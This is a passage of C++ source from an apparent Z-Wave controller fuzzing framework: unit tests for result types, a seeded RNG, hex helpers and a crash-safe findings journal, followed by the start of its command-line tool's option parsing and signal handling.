TEST(ResultTest, TakeMovesValue) {
  Result<std::string> r = std::string("payload");
  const std::string taken = std::move(r).take();
  EXPECT_EQ(taken, "payload");
}

TEST(ResultTest, StatusDefaultsOk) {
  const Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), Errc::kOk);
}

TEST(ResultTest, StatusError) {
  const Status s(Errc::kTimeout, "no response");
  EXPECT_FALSE(s.ok());
  EXPECT_EQ(s.error().code, Errc::kTimeout);
}

TEST(ResultTest, ErrcNamesAreStable) {
  EXPECT_STREQ(errc_name(Errc::kOk), "ok");
  EXPECT_STREQ(errc_name(Errc::kBadChecksum), "bad_checksum");
  EXPECT_STREQ(errc_name(Errc::kAuthFailed), "auth_failed");
  EXPECT_STREQ(errc_name(Errc::kTimeout), "timeout");
}

}  // namespace
}  // namespace zc
