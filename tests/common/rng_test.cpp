#include "common/rng.h"

#include <gtest/gtest.h>

#include <map>
#include <set>
#include <span>

namespace zc {
namespace {

TEST(RngTest, DeterministicForSameSeed) {
  Rng a(42), b(42);
  for (int i = 0; i < 1000; ++i) EXPECT_EQ(a.next_u64(), b.next_u64());
}

TEST(RngTest, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int differing = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.next_u64() != b.next_u64()) ++differing;
  }
  EXPECT_GT(differing, 60);
}

TEST(RngTest, UniformStaysInBounds) {
  Rng rng(7);
  for (int i = 0; i < 10000; ++i) {
    const std::uint64_t v = rng.uniform(10, 20);
    EXPECT_GE(v, 10u);
    EXPECT_LE(v, 20u);
  }
}

TEST(RngTest, UniformSingletonRange) {
  Rng rng(7);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(rng.uniform(5, 5), 5u);
}

TEST(RngTest, UniformCoversRange) {
  Rng rng(11);
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 2000; ++i) seen.insert(rng.uniform(0, 7));
  EXPECT_EQ(seen.size(), 8u);
}

TEST(RngTest, ChanceExtremes) {
  Rng rng(3);
  for (int i = 0; i < 100; ++i) {
    EXPECT_FALSE(rng.chance(0.0));
    EXPECT_TRUE(rng.chance(1.0));
  }
}

TEST(RngTest, ChanceRoughlyCalibrated) {
  Rng rng(5);
  int hits = 0;
  for (int i = 0; i < 10000; ++i) {
    if (rng.chance(0.3)) ++hits;
  }
  EXPECT_NEAR(hits / 10000.0, 0.3, 0.03);
}

TEST(RngTest, Uniform01InHalfOpenInterval) {
  Rng rng(9);
  for (int i = 0; i < 10000; ++i) {
    const double v = rng.uniform01();
    EXPECT_GE(v, 0.0);
    EXPECT_LT(v, 1.0);
  }
}

TEST(RngTest, BytesLengthAndDeterminism) {
  Rng a(77), b(77);
  EXPECT_EQ(a.bytes(0).size(), 0u);
  EXPECT_EQ(a.bytes(33), b.bytes(33));
}

TEST(RngTest, PickDrawsUniformlyFromSpan) {
  Rng rng(21);
  const std::uint8_t items[] = {10, 20, 30, 40};
  std::map<std::uint8_t, int> counts;
  for (int i = 0; i < 8000; ++i) {
    ++counts[rng.pick(std::span<const std::uint8_t>(items))];
  }
  ASSERT_EQ(counts.size(), 4u);
  for (const auto& [value, count] : counts) {
    EXPECT_NEAR(count, 2000, 250) << int(value);
  }
}

TEST(RngTest, PickSingleElement) {
  Rng rng(22);
  const int items[] = {7};
  EXPECT_EQ(rng.pick(std::span<const int>(items)), 7);
}

TEST(RngTest, ForkIsIndependentButDeterministic) {
  Rng a(123), b(123);
  Rng fa = a.fork();
  Rng fb = b.fork();
  EXPECT_EQ(fa.next_u64(), fb.next_u64());
  // Forked stream differs from the parent stream.
  Rng parent(123);
  Rng child = parent.fork();
  EXPECT_NE(child.next_u64(), parent.next_u64());
}

}  // namespace
}  // namespace zc
