#include "common/bytes.h"

#include <gtest/gtest.h>

namespace zc {
namespace {

TEST(BytesTest, ToHexEmpty) { EXPECT_EQ(to_hex({}), ""); }

TEST(BytesTest, ToHexBasic) {
  const Bytes data = {0xCB, 0x95, 0xA3, 0x4A};
  EXPECT_EQ(to_hex(data), "cb95a34a");
}

TEST(BytesTest, ToHexSpacedMatchesPaperStyle) {
  const Bytes data = {0x0F, 0x20, 0x01, 0x00};
  EXPECT_EQ(to_hex_spaced(data), "0x0F 0x20 0x01 0x00");
}

TEST(BytesTest, FromHexPlain) {
  const auto parsed = from_hex("cb95a34a");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, (Bytes{0xCB, 0x95, 0xA3, 0x4A}));
}

TEST(BytesTest, FromHexAcceptsSeparatorsAndPrefixes) {
  const auto parsed = from_hex("0xCB 0x95,0xA3:0x4A");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, (Bytes{0xCB, 0x95, 0xA3, 0x4A}));
}

TEST(BytesTest, FromHexRejectsOddDigits) {
  EXPECT_FALSE(from_hex("abc").has_value());
}

TEST(BytesTest, FromHexRejectsGarbage) {
  EXPECT_FALSE(from_hex("zz").has_value());
  EXPECT_FALSE(from_hex("a b").has_value());  // split mid-byte
}

TEST(BytesTest, HexRoundTripProperty) {
  Bytes data;
  for (int i = 0; i < 256; ++i) data.push_back(static_cast<std::uint8_t>(i));
  const auto parsed = from_hex(to_hex(data));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, data);
}

TEST(BytesTest, BigEndian32RoundTrip) {
  Bytes out;
  write_be32(out, 0xE7DE3F3D);
  ASSERT_EQ(out.size(), 4u);
  EXPECT_EQ(read_be32(out, 0), 0xE7DE3F3Du);
}

TEST(BytesTest, BigEndian16RoundTrip) {
  Bytes out;
  write_be16(out, 0x1D0F);
  EXPECT_EQ(read_be16(out, 0), 0x1D0F);
}

TEST(BytesTest, ConstantTimeEqual) {
  const Bytes a = {1, 2, 3};
  const Bytes b = {1, 2, 3};
  const Bytes c = {1, 2, 4};
  const Bytes d = {1, 2};
  EXPECT_TRUE(equal_constant_time(a, b));
  EXPECT_FALSE(equal_constant_time(a, c));
  EXPECT_FALSE(equal_constant_time(a, d));
}

TEST(BytesTest, Concat) {
  const Bytes a = {1, 2};
  const Bytes b = {3};
  EXPECT_EQ(concat(a, b), (Bytes{1, 2, 3}));
  EXPECT_EQ(concat({}, b), (Bytes{3}));
}

}  // namespace
}  // namespace zc
