// Crash-safety contract of the findings journal (store/journal.h):
//
//  * torn-write recovery — a file truncated at ANY byte offset inside the
//    final record's frame must open cleanly with every prior record intact
//    (the kill-at-arbitrary-point acceptance criterion);
//  * strictness — an unknown file magic or an unknown record version in a
//    crc-valid record rejects the whole file, never skips or truncates
//    (mirroring the checkpoint parser's never-run-from-half-read-state
//    rule);
//  * cross-run dedup — reopening loads every key, so a repeated campaign
//    grows the journal by new findings only.
//
// Labeled `robust` so `ctest -L robust` runs the crash/recovery suite in
// isolation (and under sanitizer builds in the CI robust lane).
#include "store/journal.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>

namespace zc::store {
namespace {

FindingRecord sample_record(int n) {
  FindingRecord record;
  record.device = 4;
  record.kind = static_cast<std::uint8_t>(n % 4);
  record.cc = static_cast<std::uint16_t>(0x20 + n);
  record.cmd = static_cast<std::uint16_t>(0x01 + n);
  record.param0 = n % 3 == 0 ? 0x100 : static_cast<std::uint16_t>(n);
  record.bug_id = n + 1;
  record.detected_at = 1000u * static_cast<std::uint64_t>(n + 1);
  record.campaign_seed = 0x2C07E12F;
  record.shard_id = static_cast<std::uint32_t>(n % 5);
  record.payload = {static_cast<std::uint8_t>(0x20 + n), static_cast<std::uint8_t>(n), 0xFF};
  return record;
}

std::string temp_path(const char* name) { return ::testing::TempDir() + name; }

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

void write_file(const std::string& path, const std::string& bytes) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

/// Builds a journal file with `count` sample records and returns its bytes.
std::string build_journal(const std::string& path, int count) {
  std::remove(path.c_str());
  FindingsJournal journal;
  EXPECT_TRUE(journal.open(path));
  for (int n = 0; n < count; ++n) {
    EXPECT_EQ(journal.append(sample_record(n)), FindingsJournal::AppendOutcome::kAppended);
  }
  journal.close();
  return read_file(path);
}

TEST(JournalEncodingTest, BodyRoundTrips) {
  const FindingRecord original = sample_record(7);
  const Bytes body = encode_record_body(original);
  const auto parsed = decode_record_body(ByteView(body.data(), body.size()));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->device, original.device);
  EXPECT_EQ(parsed->kind, original.kind);
  EXPECT_EQ(parsed->cc, original.cc);
  EXPECT_EQ(parsed->cmd, original.cmd);
  EXPECT_EQ(parsed->param0, original.param0);
  EXPECT_EQ(parsed->bug_id, original.bug_id);
  EXPECT_EQ(parsed->detected_at, original.detected_at);
  EXPECT_EQ(parsed->campaign_seed, original.campaign_seed);
  EXPECT_EQ(parsed->shard_id, original.shard_id);
  EXPECT_EQ(parsed->payload, original.payload);
}

TEST(JournalEncodingTest, Crc32MatchesKnownVector) {
  // The classic check value: CRC-32("123456789") = 0xCBF43926.
  const Bytes data = {'1', '2', '3', '4', '5', '6', '7', '8', '9'};
  EXPECT_EQ(crc32(ByteView(data.data(), data.size())), 0xCBF43926u);
}

TEST(JournalTest, AppendReopenLoadsEverything) {
  const std::string path = temp_path("zc_journal_reopen.zcj");
  build_journal(path, 5);

  FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));
  EXPECT_EQ(journal.recovery().records_recovered, 5u);
  EXPECT_EQ(journal.recovery().bytes_truncated, 0u);
  ASSERT_EQ(journal.records().size(), 5u);
  for (int n = 0; n < 5; ++n) {
    EXPECT_EQ(journal.records()[static_cast<std::size_t>(n)].cc, sample_record(n).cc);
    EXPECT_TRUE(journal.contains(sample_record(n).key()));
  }
  journal.close();
  std::remove(path.c_str());
}

TEST(JournalTest, DedupAcrossRuns) {
  const std::string path = temp_path("zc_journal_dedup.zcj");
  build_journal(path, 3);

  FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));
  // Same key, different payload/time: still the same finding.
  FindingRecord dup = sample_record(1);
  dup.detected_at = 999999;
  dup.payload = {0xAA};
  EXPECT_EQ(journal.append(dup), FindingsJournal::AppendOutcome::kDuplicate);
  EXPECT_EQ(journal.append(sample_record(9)), FindingsJournal::AppendOutcome::kAppended);
  journal.close();

  FindingsJournal reopened;
  ASSERT_TRUE(reopened.open(path));
  EXPECT_EQ(reopened.records().size(), 4u);  // 3 + 1 new, duplicate dropped
  reopened.close();
  std::remove(path.c_str());
}

TEST(JournalTest, TruncationAtEveryByteOfLastRecordRecoversPrefix) {
  // The acceptance criterion: kill-at-arbitrary-point loses at most the
  // final partially-written record. Simulate every possible tear by
  // truncating the file at each byte offset inside the last record's
  // frame and asserting the first N-1 records always come back.
  const std::string path = temp_path("zc_journal_sweep.zcj");
  const std::string full = build_journal(path, 4);
  const std::string prefix = build_journal(path, 3);
  ASSERT_LT(prefix.size(), full.size());
  ASSERT_EQ(full.substr(0, prefix.size()), prefix);  // append-only format

  for (std::size_t cut = prefix.size(); cut < full.size(); ++cut) {
    write_file(path, full.substr(0, cut));

    FindingsJournal journal;
    ASSERT_TRUE(journal.open(path)) << "cut at byte " << cut;
    EXPECT_EQ(journal.recovery().records_recovered, 3u) << "cut at byte " << cut;
    EXPECT_EQ(journal.recovery().bytes_truncated, cut - prefix.size())
        << "cut at byte " << cut;
    ASSERT_EQ(journal.records().size(), 3u) << "cut at byte " << cut;
    for (int n = 0; n < 3; ++n) {
      EXPECT_EQ(journal.records()[static_cast<std::size_t>(n)].bug_id, n + 1);
    }
    // Recovery must also repair the file in place: appending after a torn
    // open and reopening yields exactly prefix + new record.
    EXPECT_EQ(journal.append(sample_record(7)), FindingsJournal::AppendOutcome::kAppended);
    journal.close();

    FindingsJournal reopened;
    ASSERT_TRUE(reopened.open(path)) << "cut at byte " << cut;
    EXPECT_EQ(reopened.records().size(), 4u) << "cut at byte " << cut;
    EXPECT_EQ(reopened.recovery().bytes_truncated, 0u) << "cut at byte " << cut;
    reopened.close();
  }
  std::remove(path.c_str());
}

TEST(JournalTest, CrcMismatchTruncatesFromCorruption) {
  const std::string path = temp_path("zc_journal_crc.zcj");
  const std::string full = build_journal(path, 4);
  const std::string prefix2 = build_journal(path, 2);

  // Flip one byte inside record 2's body (just past its 8-byte frame
  // header): records 0-1 survive, records 2-3 are gone.
  std::string corrupt = full;
  corrupt[prefix2.size() + 8] = static_cast<char>(corrupt[prefix2.size() + 8] ^ 0x40);
  write_file(path, corrupt);

  FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));
  EXPECT_EQ(journal.records().size(), 2u);
  EXPECT_EQ(journal.recovery().bytes_truncated, full.size() - prefix2.size());
  journal.close();
  std::remove(path.c_str());
}

TEST(JournalTest, UnknownRecordVersionRejectsWholeFile) {
  const std::string path = temp_path("zc_journal_future_record.zcj");
  const std::string full = build_journal(path, 2);

  // Craft a crc-VALID record with record_version=2 and append it: future
  // data we cannot interpret. The whole file must be rejected — not
  // truncated (that destroys someone else's valid data), not skipped
  // (that silently drops findings).
  Bytes body = encode_record_body(sample_record(9));
  body[0] = 2;  // record_version
  const std::uint32_t crc = crc32(ByteView(body.data(), body.size()));
  std::string frame;
  const std::uint32_t len = static_cast<std::uint32_t>(body.size());
  for (int i = 0; i < 4; ++i) frame.push_back(static_cast<char>((len >> (8 * i)) & 0xFF));
  for (int i = 0; i < 4; ++i) frame.push_back(static_cast<char>((crc >> (8 * i)) & 0xFF));
  frame.append(body.begin(), body.end());
  write_file(path, full + frame);

  FindingsJournal journal;
  EXPECT_FALSE(journal.open(path));
  EXPECT_EQ(journal.error(), JournalError::kUnknownVersion);
  EXPECT_FALSE(journal.is_open());
  // The file is untouched: a downgrade must not lose the future records.
  EXPECT_EQ(read_file(path).size(), full.size() + frame.size());
  std::remove(path.c_str());
}

TEST(JournalTest, FutureFileMagicRejectsWholeFile) {
  const std::string path = temp_path("zc_journal_future_magic.zcj");
  write_file(path, "ZCJRNL2\n");

  FindingsJournal journal;
  EXPECT_FALSE(journal.open(path));
  EXPECT_EQ(journal.error(), JournalError::kUnknownVersion);
  std::remove(path.c_str());
}

TEST(JournalTest, ForeignFileRejectedAsBadMagic) {
  const std::string path = temp_path("zc_journal_foreign.zcj");
  write_file(path, "not a journal at all\n");

  FindingsJournal journal;
  EXPECT_FALSE(journal.open(path));
  EXPECT_EQ(journal.error(), JournalError::kBadMagic);
  std::remove(path.c_str());
}

TEST(JournalTest, EmptyAndFreshFilesOpenClean) {
  const std::string path = temp_path("zc_journal_fresh.zcj");
  std::remove(path.c_str());

  FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));  // creates
  EXPECT_EQ(journal.records().size(), 0u);
  EXPECT_EQ(journal.append(sample_record(0)), FindingsJournal::AppendOutcome::kAppended);
  EXPECT_TRUE(journal.flush());
  journal.close();

  // A file holding only the magic (kill right after creation) is valid.
  write_file(path, "ZCJRNL1\n");
  FindingsJournal magic_only;
  ASSERT_TRUE(magic_only.open(path));
  EXPECT_EQ(magic_only.records().size(), 0u);
  magic_only.close();
  std::remove(path.c_str());
}

TEST(JournalTest, TruncationInsideMagicRecreates) {
  const std::string path = temp_path("zc_journal_torn_magic.zcj");
  // A kill before the 8-byte magic finished writing leaves a short file
  // that can't hold any records: a torn creation. open() restarts it as a
  // fresh journal (there is nothing to lose).
  write_file(path, "ZCJ");

  FindingsJournal journal;
  ASSERT_TRUE(journal.open(path));
  EXPECT_EQ(journal.records().size(), 0u);
  EXPECT_EQ(journal.recovery().bytes_truncated, 3u);
  EXPECT_EQ(journal.append(sample_record(0)), FindingsJournal::AppendOutcome::kAppended);
  journal.close();

  FindingsJournal reopened;
  ASSERT_TRUE(reopened.open(path));
  EXPECT_EQ(reopened.records().size(), 1u);
  reopened.close();
  std::remove(path.c_str());
}

}  // namespace
}  // namespace zc::store
