// zcover_cli: the framework as an operator-facing tool.
//
//   zcover_cli fuzz   [--device D4] [--mode full|beta|gamma] [--hours 2]
//                     [--seed N] [--log FILE]
//                     [--checkpoint FILE] [--resume FILE]
//                     [--trace FILE] [--metrics FILE] [--journal FILE]
//                     [--no-dedup] [--liveness-stride N]
//   zcover_cli trials [--device D4|all] [--trials 5] [--jobs N]
//                     [--mode full|beta|gamma] [--hours 24] [--seed N]
//                     [--fuzzer psm|cov] [--corpus-dir DIR] [--no-coverage]
//                     [--trace FILE] [--metrics FILE] [--journal FILE]
//                     [--max-shard-restarts N] [--shard-deadline SECONDS]
//                     [--no-dedup] [--liveness-stride N]
//   zcover_cli scan   [--device D4]
//   zcover_cli replay   --log FILE [--device D4]
//   zcover_cli minimize --log FILE [--device D4]
//   zcover_cli list
//   zcover_cli version
//   zcover_cli serve  [--listen HOST:PORT] [--journal FILE]
//                     [--max-jobs N] [--jobs N] [--checkpoint-dir DIR]
//                     [--max-shard-restarts N]
//   zcover_cli submit --connect HOST:PORT [--device D4] [--fuzzer psm|cov|vfuzz]
//                     [--seed N] [--trials N] [--duration-ms N]
//                     [--telemetry] [--name LABEL]
//   zcover_cli status --connect HOST:PORT [--job ID]
//   zcover_cli watch  --connect HOST:PORT --job ID
//   zcover_cli pause  --connect HOST:PORT --job ID
//   zcover_cli resume --connect HOST:PORT --job ID [--resume-mode replay|checkpoint]
//   zcover_cli cancel --connect HOST:PORT --job ID
//   zcover_cli stats|ping|shutdown --connect HOST:PORT
//
// `fuzz` runs the three-phase pipeline and writes the Bug_Logs file;
// `trials` runs N independent trials sharded across a thread pool
// (`--jobs`, default hardware concurrency; `--device all` shards every
// controller profile) — results are bit-identical for any job count;
// `scan` stops after fingerprinting (Table IV view); `replay` re-validates
// a saved log with the packet tester (the paper's PoC verification);
// `minimize` shrinks each bug-inducing payload to its reproducing core.
//
// `--trace FILE` writes the structured JSONL event stream and `--metrics
// FILE` the metrics JSON (docs/observability.md documents both schemas);
// either flag also prints the end-of-run telemetry summary table. Both
// files are deterministic: byte-identical for a given seed at any --jobs.
//
// `--no-dedup` turns off duplicate-test memoization; `--liveness-stride N`
// sets the adaptive oracle schedule (1 = probe after every test, the
// paper's baseline; default 8 = sweep at stride boundaries with full
// window replay on any anomaly).
//
// `--journal FILE` opens a crash-safe append-only findings journal
// (docs/robustness.md documents the on-disk format): every confirmed
// finding is durable the moment it is detected, duplicates across runs
// are skipped, and a torn tail from a previous kill is truncated on open.
// `--max-shard-restarts N` and `--shard-deadline SECONDS` tune the shard
// fault domains in `trials`: a crashed or hung shard is restarted up to N
// times (resuming from its checkpoint when one exists) and quarantined
// after that, leaving every other shard's results untouched.
//
// `--fuzzer cov` switches `trials` to the coverage-guided mode
// (docs/FUZZING.md "Coverage-guided mode"): every shard runs a feedback
// loop over the simulated firmware's handler-coverage map instead of the
// PSM campaign. `--corpus-dir DIR` both loads an existing corpus as extra
// seeds before the run and saves the merged admitted corpus back to DIR
// after it (one `<fingerprint>.seed` file per payload). `--no-coverage`
// disables the feedback loop — the blind ablation arm, with no coverage
// map installed at all.
//
// `serve` runs the campaign service (docs/SERVICE.md): a long-lived
// daemon accepting job submissions over a newline-delimited JSON line
// protocol, multiplexing up to `--max-jobs` campaigns concurrently over
// the shared executor pool, streaming per-job events to `watch`
// subscribers, and parking every running job behind a checkpoint on
// shutdown. The remaining subcommands are the thin client side: each
// sends one protocol line to `--connect HOST:PORT` and prints the
// daemon's JSON reply (`watch` streams events until the job finishes).
//
// SIGINT/SIGTERM request a cooperative stop: every campaign halts at its
// next test boundary, emits a final checkpoint (when checkpointing is
// on), the journal is flushed, and the process exits with 128+signal
// (130 for SIGINT, 143 for SIGTERM).
#include <algorithm>
#include <atomic>
#include <cctype>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <limits>
#include <optional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "store/journal.h"

#include "common/version.h"
#include "core/campaign.h"
#include "core/checkpoint.h"
#include "core/packet_tester.h"
#include "core/parallel.h"
#include "core/report.h"
#include "crypto/aes128.h"
#include "obs/profile.h"
#include "obs/recorder.h"
#include "radio/phy_simd.h"
#include "svc/client.h"
#include "svc/jobs.h"
#include "svc/json.h"
#include "svc/protocol.h"
#include "svc/server.h"

namespace {

using namespace zc;

/// Last termination signal received (0 = none). Campaigns poll it through
/// their abort hooks, so shutdown is always cooperative: the stack unwinds
/// normally, final checkpoints are written, the journal is flushed.
volatile std::sig_atomic_t g_signal = 0;

void handle_signal(int sig) { g_signal = sig; }

void install_signal_handlers() {
  std::signal(SIGINT, handle_signal);
  std::signal(SIGTERM, handle_signal);
}

/// 130 for SIGINT, 143 for SIGTERM — the conventional 128+signal codes, so
/// scripts can tell an interrupted run from a completed one.
int exit_code_for_signal() { return g_signal == 0 ? 0 : 128 + static_cast<int>(g_signal); }

/// Opens the findings journal when --journal was given (returns whether it
/// did); exits on an unrecoverable journal error (unknown version /
/// foreign file) rather than silently fuzzing without durability.
bool maybe_open_journal(const std::string& path, store::FindingsJournal& journal) {
  if (path.empty()) return false;
  if (!journal.open(path)) {
    std::fprintf(stderr, "cannot open journal %s: %s\n", path.c_str(),
                 store::journal_error_name(journal.error()));
    std::exit(1);
  }
  const auto& recovery = journal.recovery();
  if (recovery.bytes_truncated > 0) {
    std::printf("journal %s: recovered %zu records, truncated %llu torn bytes\n",
                path.c_str(), recovery.records_recovered,
                static_cast<unsigned long long>(recovery.bytes_truncated));
  } else if (recovery.records_recovered > 0) {
    std::printf("journal %s: %zu records from previous runs (cross-run dedup on)\n",
                path.c_str(), recovery.records_recovered);
  }
  return true;
}

sim::DeviceModel parse_device(const std::string& name) {
  for (sim::DeviceModel model : sim::all_controller_models()) {
    const std::string label = sim::device_model_name(model);  // "D4 Aeotec ZW090-A"
    if (label.substr(0, 2) == name || label == name) return model;
  }
  std::fprintf(stderr, "unknown device '%s' (use D1..D7)\n", name.c_str());
  std::exit(2);
}

core::FuzzerFamily parse_fuzzer(const std::string& name) {
  if (name == "psm") return core::FuzzerFamily::kPsm;
  if (name == "cov") return core::FuzzerFamily::kCov;
  if (name == "vfuzz") return core::FuzzerFamily::kVfuzz;
  std::fprintf(stderr, "unknown fuzzer '%s' (psm|cov|vfuzz)\n", name.c_str());
  std::exit(2);
}

core::CampaignMode parse_mode(const std::string& name) {
  if (name == "full") return core::CampaignMode::kFull;
  if (name == "beta") return core::CampaignMode::kKnownOnly;
  if (name == "gamma") return core::CampaignMode::kRandom;
  std::fprintf(stderr, "unknown mode '%s' (full|beta|gamma)\n", name.c_str());
  std::exit(2);
}

struct Endpoint {
  std::string host;
  std::uint16_t port = 0;
};

struct Options {
  std::string command;
  sim::DeviceModel device = sim::DeviceModel::kD4_AeotecZw090;
  bool all_devices = false;
  core::CampaignMode mode = core::CampaignMode::kFull;
  double hours = 1.0;
  std::uint64_t seed = 0x2C07E12F;
  std::size_t trials = 5;
  std::size_t jobs = 0;  // 0 = hardware concurrency
  bool dedup = true;
  std::size_t liveness_stride = 8;
  std::string log_path;
  std::string report_path;
  std::string checkpoint_path;
  std::string resume_path;
  std::string trace_path;
  std::string metrics_path;
  std::string journal_path;
  std::size_t max_shard_restarts = 2;
  double shard_deadline_seconds = 0.0;  // 0 = watchdog off
  core::FuzzerFamily fuzzer = core::FuzzerFamily::kPsm;
  std::string corpus_dir;
  bool coverage = true;  // --no-coverage clears it (cov mode only)

  // service mode (serve + client commands)
  Endpoint listen{"127.0.0.1", 5790};
  Endpoint connect{"127.0.0.1", 5790};
  std::string job;                     // --job for status/watch/pause/...
  std::size_t max_jobs = 2;            // serve: jobs running concurrently
  std::string checkpoint_dir;          // serve: shutdown checkpoint files
  std::size_t duration_ms = 0;         // submit: virtual ms per trial
  std::string job_name;                // submit: human label
  bool svc_telemetry = false;          // submit: per-shard telemetry
  svc::ResumeMode resume_mode = svc::ResumeMode::kReplay;

  bool telemetry() const { return !trace_path.empty() || !metrics_path.empty(); }
};

/// Writes telemetry output atomically enough for our purposes and reports
/// failures without aborting the run's primary results.
bool write_text_file(const std::string& path, const std::string& content,
                     const char* what) {
  std::ofstream out(path);
  if (!out) {
    std::fprintf(stderr, "cannot write %s\n", path.c_str());
    return false;
  }
  out << content;
  std::printf("%s written to %s\n", what, path.c_str());
  return true;
}

/// Prints the wall-clock profile (ZC_PROFILING builds only) to stderr so
/// it never contaminates parseable stdout or the telemetry files.
void print_profile_if_enabled() {
  if (!zc::obs::profiling_enabled()) return;
  const std::string report = zc::obs::profile_report();
  if (!report.empty()) std::fputs(report.c_str(), stderr);
}

/// Strict unsigned-count parser for flags like --jobs: the whole string
/// must be a valid non-negative integer (0x/0 prefixes accepted) that fits
/// a size_t. strtoull alone silently maps "abc" to 0 and "-4"/overflow to
/// huge values — either one turns a typo'd --jobs into a nonsense pool
/// size, so reject them with a usage error instead.
std::size_t parse_count(const std::string& flag, const std::string& text) {
  errno = 0;
  char* end = nullptr;
  const char* begin = text.c_str();
  if (text.empty() || text[0] == '-' || std::isspace(static_cast<unsigned char>(text[0]))) {
    std::fprintf(stderr, "%s expects a non-negative integer, got '%s'\n", flag.c_str(),
                 text.c_str());
    std::exit(2);
  }
  const unsigned long long parsed = std::strtoull(begin, &end, 0);
  if (end == begin || *end != '\0' || errno == ERANGE ||
      parsed > std::numeric_limits<std::size_t>::max()) {
    std::fprintf(stderr, "%s expects a non-negative integer, got '%s'\n", flag.c_str(),
                 text.c_str());
    std::exit(2);
  }
  return static_cast<std::size_t>(parsed);
}

/// Strict "host:port" parser for --listen/--connect: the host must be
/// non-empty, the port a valid integer in [1, 65535] by the same
/// parse_count rules as every other numeric flag. Anything else is a
/// usage error (exit 2) — a daemon silently listening on the wrong
/// endpoint is worse than no daemon.
Endpoint parse_endpoint(const std::string& flag, const std::string& text) {
  const std::size_t colon = text.rfind(':');
  if (colon == std::string::npos || colon == 0 || colon + 1 == text.size()) {
    std::fprintf(stderr, "%s expects HOST:PORT, got '%s'\n", flag.c_str(), text.c_str());
    std::exit(2);
  }
  Endpoint endpoint;
  endpoint.host = text.substr(0, colon);
  const std::size_t port = parse_count(flag + " port", text.substr(colon + 1));
  if (port == 0 || port > 65535) {
    std::fprintf(stderr, "%s port must be in [1, 65535], got '%s'\n", flag.c_str(),
                 text.substr(colon + 1).c_str());
    std::exit(2);
  }
  endpoint.port = static_cast<std::uint16_t>(port);
  return endpoint;
}

Options parse_options(int argc, char** argv) {
  Options options;
  if (argc < 2) {
    std::fprintf(stderr,
                 "usage: zcover_cli fuzz|trials|scan|replay|minimize|list|version|serve|"
                 "submit|status|watch|pause|resume|cancel|stats|ping|shutdown [options]\n");
    std::exit(2);
  }
  options.command = argv[1];
  for (int i = 2; i < argc; ++i) {
    const std::string arg = argv[i];
    auto value = [&]() -> std::string {
      if (i + 1 >= argc) {
        std::fprintf(stderr, "missing value for %s\n", arg.c_str());
        std::exit(2);
      }
      return argv[++i];
    };
    if (arg == "--device") {
      const std::string name = value();
      if (name == "all") {
        options.all_devices = true;
      } else {
        options.device = parse_device(name);
      }
    } else if (arg == "--trials") {
      options.trials = parse_count(arg, value());
    } else if (arg == "--jobs") {
      options.jobs = parse_count(arg, value());  // 0 = hardware concurrency
    } else if (arg == "--mode") {
      options.mode = parse_mode(value());
    } else if (arg == "--hours") {
      options.hours = std::atof(value().c_str());
    } else if (arg == "--seed") {
      options.seed = std::strtoull(value().c_str(), nullptr, 0);
    } else if (arg == "--log") {
      options.log_path = value();
    } else if (arg == "--report") {
      options.report_path = value();
    } else if (arg == "--checkpoint") {
      options.checkpoint_path = value();
    } else if (arg == "--resume") {
      options.resume_path = value();
    } else if (arg == "--trace") {
      options.trace_path = value();
    } else if (arg == "--metrics") {
      options.metrics_path = value();
    } else if (arg == "--journal") {
      options.journal_path = value();
    } else if (arg == "--max-shard-restarts") {
      options.max_shard_restarts = parse_count(arg, value());
    } else if (arg == "--shard-deadline") {
      options.shard_deadline_seconds = std::atof(value().c_str());
    } else if (arg == "--fuzzer") {
      options.fuzzer = parse_fuzzer(value());
    } else if (arg == "--corpus-dir") {
      options.corpus_dir = value();
    } else if (arg == "--no-coverage") {
      options.coverage = false;
    } else if (arg == "--no-dedup") {
      options.dedup = false;
    } else if (arg == "--liveness-stride") {
      options.liveness_stride = parse_count(arg, value());
    } else if (arg == "--listen") {
      options.listen = parse_endpoint(arg, value());
    } else if (arg == "--connect") {
      options.connect = parse_endpoint(arg, value());
    } else if (arg == "--job") {
      options.job = value();
    } else if (arg == "--max-jobs") {
      options.max_jobs = parse_count(arg, value());
    } else if (arg == "--checkpoint-dir") {
      options.checkpoint_dir = value();
    } else if (arg == "--duration-ms") {
      options.duration_ms = parse_count(arg, value());
    } else if (arg == "--name") {
      options.job_name = value();
    } else if (arg == "--telemetry") {
      options.svc_telemetry = true;
    } else if (arg == "--resume-mode") {
      const std::string mode = value();
      if (mode == "replay") {
        options.resume_mode = svc::ResumeMode::kReplay;
      } else if (mode == "checkpoint") {
        options.resume_mode = svc::ResumeMode::kCheckpoint;
      } else {
        std::fprintf(stderr, "unknown resume mode '%s' (replay|checkpoint)\n", mode.c_str());
        std::exit(2);
      }
    } else {
      std::fprintf(stderr, "unknown option %s\n", arg.c_str());
      std::exit(2);
    }
  }
  return options;
}

int cmd_list() {
  std::printf("testbed controllers:\n");
  for (sim::DeviceModel model : sim::all_controller_models()) {
    const auto& profile = sim::controller_profile(model);
    std::printf("  %-24s %s-series, %d, home %08X, %s\n",
                sim::device_model_name(model), std::string(profile.chip_series).c_str(),
                profile.year, profile.home_id,
                profile.hub ? "hub (app-driven)" : "USB stick (PC-program-driven)");
  }
